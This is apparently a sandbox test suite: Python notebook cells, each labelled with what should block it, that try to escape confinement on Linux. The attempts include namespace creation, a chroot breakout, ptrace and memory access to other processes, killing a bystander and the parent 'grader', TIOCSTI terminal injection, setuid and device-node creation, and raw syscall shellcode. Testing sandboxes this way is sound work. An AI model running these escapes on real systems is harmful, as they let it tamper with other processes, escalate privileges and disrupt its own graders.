"""Asking the kernel for more: privileges, namespaces, mounts, other processes, rare system calls."""
# What would take down the machine is only asked for in a way that tells whether it is allowed.
# Cells of notebooks, not a module.
# ruff: noqa

# /// new_namespaces
# tells = "Makes user, mount, pid and network namespaces, in which it would be root."
# stopped_by = "system calls"
# stock = "made them"
# ///
# %%
import signal

KINDS = {
    "user": 0x10000000,
    "mount": 0x20000,
    "pid": 0x20000000,
    "net": 0x40000000,
    "ipc": 0x08000000,
    "uts": 0x04000000,
    "cgroup": 0x02000000,
    "time": 0x80,
}


def in_a_child(action, *arguments):
    """What an action gives in a process of its own, which it may spoil."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writing, repr(action(*arguments)).encode())
        except OSError as error:
            os.write(writing, f"!{error}".encode())
        finally:
            os._exit(0)
    os.close(writing)
    said = os.read(reading, 1000).decode()
    os.waitpid(child, 0)
    if said.startswith("!") or not said:
        raise OSError(said)
    return said


def cloned(flag):
    child = syscall("clone", flag | signal.SIGCHLD, None, None, None, None)[1]
    if child == 0:
        os._exit(0)
    return f"clone with {flag:#x}"


for kind, flag in KINDS.items():
    tries(f"unshare {kind}", in_a_child, syscall, "unshare", flag)
    if kind != "time":
        tries(f"clone {kind}", in_a_child, cloned, flag)
tries("user and mount", in_a_child, syscall, "unshare", 0x10020000)

# /// clone3_into_namespaces
# tells = "Asks clone3 for a user namespace: a filter can't look into its arguments."
# stopped_by = "system calls"
# stock = "made one"
# ///
# %%
import signal
import struct


def clone3():
    arguments = ctypes.create_string_buffer(
        struct.pack("<11Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    )
    child = syscall("clone3", arguments, 88)[1]
    if child == 0:
        os._exit(0)
    return "a child in a user namespace of its own"


tries("clone3", clone3)


# /// enters_namespaces
# tells = "Enters the namespaces of other processes."
# stopped_by = "system calls"
# stock = "entered them, as root"
# ///
# %%
def enter(process, kind):
    return syscall("setns", os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0)


for process in (TOLD["bystander"], os.getppid(), 1):
    if process not in (0, os.getpid()):
        for kind in ("mnt", "net", "pid", "user"):
            tries(f"{kind} of {process}", enter, process, kind)
        tries(
            f"pidfd of {process}",
            lambda: syscall("setns", syscall("pidfd_open", process, 0)[1], 0x20000),
        )

# /// mounts
# tells = "Mounts, unmounts and binds file systems, by the old calls and by the new ones."
# stopped_by = "system calls"
# harmful = true
# ///
# %%
os.makedirs("place", exist_ok=True)
tries("tmpfs", syscall, "mount", b"none", b"place", b"tmpfs", 0, None)
tries("proc", syscall, "mount", b"proc", b"place", b"proc", 0, None)
tries("bind", syscall, "mount", b"/", b"place", None, 0x1000, None)
tries("fsopen", syscall, "fsopen", b"tmpfs", 0)
tries("open_tree", syscall, "open_tree", -100, b".", 1)
tries("move_mount", syscall, "move_mount", -100, b"place", -100, b"place", 0)
tries("umount", syscall, "umount2", b"place", 2)
tries("remount", syscall, "mount", None, b"place", None, 0x20, None)
tries("pivot_root", syscall, "pivot_root", b"place", b"place")


# /// leaves_a_changed_root
# tells = "Breaks out of its root in the classical way: chroot below, then climb."
# stopped_by = "system calls"
# stock = "left it, as root"
# ///
# %%
def climb():
    top = os.open("/", os.O_RDONLY)
    os.makedirs("cell", exist_ok=True)
    syscall("chroot", b"cell")
    os.fchdir(top)
    for _ in range(30):
        os.chdir("..")
    syscall("chroot", b".")
    return os.listdir(".")


child = os.fork()
if child == 0:
    try:
        tries("chroot", climb)
        sys.stdout.flush()
    finally:
        os._exit(0)
os.waitpid(child, 0)
tries("chroot to here", syscall, "chroot", b"/")


# /// traces_others
# tells = "Attaches to other processes with ptrace, and reads and writes their memory."
# stopped_by = "system calls"
# harmful = true
# ///
# %%
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(16)
local, remote = Vector(ctypes.addressof(buffer), 16), Vector(4096, 16)


def allowed(name, process):
    """EFAULT says that the address is wrong, and that the rest was allowed."""
    try:
        return syscall(name, process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    except OSError as error:
        if error.errno == errno.EFAULT:
            return "allowed, at another address"
        raise


for process in {TOLD["bystander"], os.getppid(), 1} - {0, os.getpid()}:
    tries(f"seize {process}", syscall, "ptrace", 0x4206, process, 0, 0)
    tries(f"attach {process}", syscall, "ptrace", 16, process, 0, 0)
    tries(f"read {process}", allowed, "process_vm_readv", process)
    tries(f"write {process}", allowed, "process_vm_writev", process)
    tries(f"memory {process}", may_write, f"/proc/{process}/mem")
    tries(f"compare {process}", syscall, "kcmp", os.getpid(), process, 0, 0, 0)
tries("trace me", syscall, "ptrace", 0, 0, 0, 0)


# /// takes_descriptors_of_others
# tells = "Takes open files out of other processes with pidfd_getfd."
# stopped_by = "system calls"
# stock = "took them"
# ///
# %%
def take(process, descriptor):
    other = syscall("pidfd_open", process, 0)[1]
    return os.fstat(syscall("pidfd_getfd", other, descriptor, 0)[1])


for process in {TOLD["bystander"], os.getppid(), 1} - {0, os.getpid()}:
    for descriptor in range(8):
        tries(f"{descriptor} of {process}", take, process, descriptor)

# /// kills_a_bystander
# tells = "Kills a process that has nothing to do with it, whose number it knows."
# stopped_by = "own processes"
# stock = "killed it"
# ///
# %%
import signal

tries("stop", lambda: os.kill(TOLD["bystander"], signal.SIGSTOP) or "stopped")
tries("kill", lambda: os.kill(TOLD["bystander"], signal.SIGKILL) or "killed")
tries("priority", lambda: os.setpriority(os.PRIO_PROCESS, TOLD["bystander"], 19) or "slowed down")
tries("limits", lambda: __import__("resource").prlimit(TOLD["bystander"], 7, (0, 0)))
tries("processors", lambda: os.sched_getaffinity(TOLD["bystander"]))

# /// kills_everybody
# tells = "Asks whether it could signal every process, those around its own number and its parent."
# stopped_by = "own processes"
# stock = "could have killed them"
# ///
# %%
import signal

tries("all", lambda: os.kill(-1, 0) or "every process could be signalled")
own = {os.getpid(), 0, 1} if os.getppid() == 0 else {os.getpid()}
for number in {*range(1, 100), os.getppid(), *range(os.getpid() - 50, os.getpid() + 50)} - own:
    try:
        os.kill(number, 0)
    except (ProcessLookupError, PermissionError, OSError):
        continue
    succeeded(f"process {number} could be signalled")

# /// kills_its_parent
# tells = "Kills its parent and its group, the grader hopefully among them."
# stopped_by = "own processes"
# starts_from = "correct"
# attacks = ["error_sweep"]
# harmful = true
# ///
# %% error_sweep
import signal

if os.getppid() > 1:
    tries("parent", lambda: os.kill(os.getppid(), signal.SIGKILL) or "it is dead")
os.killpg(0, signal.SIGKILL)

# /// becomes_root
# tells = "Takes other user ids and capabilities."
# stopped_by = "no privileges"
# stock = "was root"
# ///
# %%
import struct

ids = os.getresuid(), os.getresgid(), os.getgroups()
print("ids", ids)
status = tries("status", lambda: read("/proc/self/status") and None)
for number in (0, 1, 65534):
    if number != os.getuid():
        tries(f"setuid {number}", lambda: os.setuid(number) or f"now {os.getresuid()}")
        tries(f"setgid {number}", lambda: os.setgid(number) or f"now {os.getresgid()}")
tries("groups", lambda: os.setgroups([0]) or f"now {os.getgroups()}")
header, data = struct.pack("<Ii", 0x20080522, 0), struct.pack("<6I", *[2**32 - 1] * 6)
tries("capset", syscall, "capset", header, data)


def capabilities():
    found = ctypes.create_string_buffer(24)
    if libc.capget(header, found) < 0:
        raise OSError(ctypes.get_errno(), "capget")
    held = struct.unpack("<6I", found.raw)
    return held if any(held) else None


tries("capabilities", capabilities)
tries("no_new_privs is off", lambda: libc.prctl(39, 0, 0, 0, 0) == 0)
tries("keep capabilities", lambda: libc.prctl(47, 2, 0, 0, 0) == 0)

# /// runs_setuid_programs
# tells = "Runs su, sudo, mount and others that belong to root and run as root."
# stopped_by = "no privileges"
# harmful = true
# ///
# %%
import subprocess

COMMANDS = (
    "su -c id",
    "sudo -n id",
    "pkexec id",
    "unshare -r id",
    "newuidmap 1 0 0 1",
    "mount -t tmpfs none .",
    "umount /",
    "fusermount -u .",
    "ping -c1 127.0.0.1",
)


def run(command):
    for folder in ("/usr/bin", "/bin", "/usr/sbin", "/sbin"):
        path = os.path.join(folder, command.split()[0])
        if os.path.exists(path):
            print(path, stat.filemode(os.stat(path).st_mode))
            done = subprocess.run(
                [path, *command.split()[1:]],
                stdin=subprocess.DEVNULL,
                capture_output=True,
                timeout=2,
            )
            return done.returncode == 0 and f"{command} gives {done.stdout}"


for command in COMMANDS:
    tries(command, run, command)

# /// makes_devices
# tells = "Makes a device node for the first disk in its own folder, and a setuid copy of Python."
# stopped_by = "no privileges"
# harmful = true
# ///
# %%
import shutil


def node():
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    return os.stat("disk")


def setuid():
    shutil.copy(os.path.realpath("/proc/self/exe"), "python")
    os.chmod("python", 0o4755)
    return os.stat("python").st_uid == 0 and "a setuid program of root"


tries("node", node)
tries("setuid", setuid)
tries("chown", lambda: os.chown(".", 0, 0) if os.getuid() else None)

# /// rare_system_calls
# tells = "Tries the calls through which kernels were broken: io_uring, bpf, perf, keys, userfaultfd."
# stopped_by = "system calls"
# harmful = true
# ///
# %%
parameters = ctypes.create_string_buffer(256)
tries("io_uring", syscall, "io_uring_setup", 4, parameters)
tries("bpf", syscall, "bpf", 0, parameters, 128)
tries("perf", syscall, "perf_event_open", parameters, 0, -1, -1, 0)
tries("a key", syscall, "add_key", b"user", b"attack", b"x", 1, -1)
tries("a keyring", syscall, "keyctl", 1, None)
tries("session keys", syscall, "keyctl", 0, -3, 0)
tries("userfaultfd", syscall, "userfaultfd", 1)
tries("fanotify", syscall, "fanotify_init", 0, 0)
tries("memfd_secret", syscall, "memfd_secret", 0)
tries("vmsplice", lambda: syscall("vmsplice", os.pipe()[1], parameters, 1, 0))
tries("migrate_pages", syscall, "migrate_pages", 0, 0, None, None)
tries("listener", syscall, "seccomp", 1, 8, parameters)
tries("a queue", syscall, "mq_open", b"attack", os.O_CREAT | os.O_RDWR, 0o600, None)
tries("System V queue", syscall, "msgget", 4711, 0o1600)


# /// commands_the_machine
# tells = "Loads modules, sets clock and host name, swaps, reboots; with arguments that do nothing."
# stopped_by = "no privileges"
# harmful = true
# ///
# %%
def allowed(name, *arguments):
    """An error other than a refusal says that it was the arguments."""
    try:
        return syscall(name, *arguments)
    except OSError as error:
        if error.errno not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
            return f"allowed, with better arguments: {error}"
        raise


tries("reboot", allowed, "reboot", 1, 2, 3, None)
tries("module", allowed, "init_module", None, 0, b"")
tries("kernel", allowed, "kexec_load", None, 17, None, 0)
tries("clock", allowed, "clock_settime", 0, None)
tries("name", allowed, "sethostname", None, -1)
tries("swap", allowed, "swapon", None, 0)
tries("accounting", allowed, "acct", b"")
tries("log", allowed, "syslog", 3, None, -1)
tries("quota", allowed, "quotactl", 0x800001 << 8, None, 0, None)
tries("priority", lambda: os.nice(-5))
tries("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or "set")

# /// raises_its_limits
# tells = "Raises its limits for memory, files, processes and core dumps."
# stopped_by = "no privileges"
# ///
# %%
import resource

for name in (
    "RLIMIT_AS",
    "RLIMIT_DATA",
    "RLIMIT_FSIZE",
    "RLIMIT_NPROC",
    "RLIMIT_CORE",
    "RLIMIT_NOFILE",
):
    number = getattr(resource, name)
    soft, hard = resource.getrlimit(number)
    if hard == resource.RLIM_INFINITY:
        continue
    try:
        resource.setrlimit(number, (hard + 1, hard + 1))
        succeeded(name)
    except (ValueError, OSError) as error:
        print(name, error)
tries("oom", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
tries("cgroup", lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write(str(os.getpid())))

# /// types_into_the_terminal
# tells = "Pushes a command line into the terminal of whoever grades (TIOCSTI)."
# stopped_by = "own processes"
# harmful = true
# ///
# %%
import fcntl

for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    except OSError as error:
        print(path, error)
        continue
    tries(path, lambda: fcntl.ioctl(terminal, 0x5413, b"\0" * 8) and "a terminal")
for descriptor in range(3):
    tries(f"descriptor {descriptor}", lambda: os.ttyname(descriptor))

# /// runs_foreign_code
# tells = "Runs system calls of the other kind: 32-bit ones, and those with the x32 bit."
# stopped_by = "system calls"
# stock = "ran it"
# ///
# %%
import mmap
import signal


def machine_code(code, *arguments):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * len(arguments))(address)(*arguments)


def in_a_child(name, action):
    child = os.fork()
    if child == 0:
        try:
            os._exit(0 if action() >= 0 else 1)
        except BaseException:
            os._exit(2)
    status = os.waitpid(child, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
        succeeded(name)
    print(name, status)


if platform.machine() == "x86_64":
    # mov eax, 310 (unshare in the 32-bit table); mov ebx, 0x10000000; int 0x80; cdqe; ret
    old = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x48\x98\x5b\xc3"
    in_a_child("32-bit unshare", lambda: machine_code(old))
    NUMBERS["x32"] = 0x40000000 | NUMBERS["unshare"]
    in_a_child("x32 unshare", lambda: syscall("x32", 0x10000000)[1])
NUMBERS["with high bits"] = NUMBERS["unshare"] | (1 << 32)
in_a_child("high bits", lambda: syscall("with high bits", 0x10000000)[1])
